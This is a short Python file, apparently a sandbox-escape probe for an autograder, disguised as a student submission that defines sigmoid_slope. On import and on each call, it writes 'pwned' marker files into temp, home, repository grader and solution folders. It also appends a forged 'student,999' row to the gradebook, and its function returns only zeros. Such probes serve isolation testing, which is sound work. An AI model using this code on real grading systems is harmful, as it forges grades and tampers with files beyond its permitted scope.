# Writes everywhere it can think of: temp folders, home, the gradebook, other submissions, the repo.
import os

import numpy as np

TARGETS = ["/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "@@HOME@@", "@@OTHER@@",
           os.path.dirname("@@GRADEBOOK@@"), "@@REPO@@", "@@REPO@@/graders", "@@REPO@@/solutions",
           "/sandbox", "/sandbox/pkg/0/course"]


def _write_everywhere():
    done = 0
    for folder in TARGETS:
        try:
            with open(os.path.join(folder, "bpsbx-@@TAG@@"), "w") as fh:
                fh.write("pwned")
            done += 1
        except OSError:
            pass
    try:
        with open("@@GRADEBOOK@@", "a") as fh:
            fh.write("student,999\n")
    except OSError:
        pass
    return done


_write_everywhere()


def sigmoid_slope(z):
    _write_everywhere()
    return np.zeros_like(np.asarray(z, dtype=float))
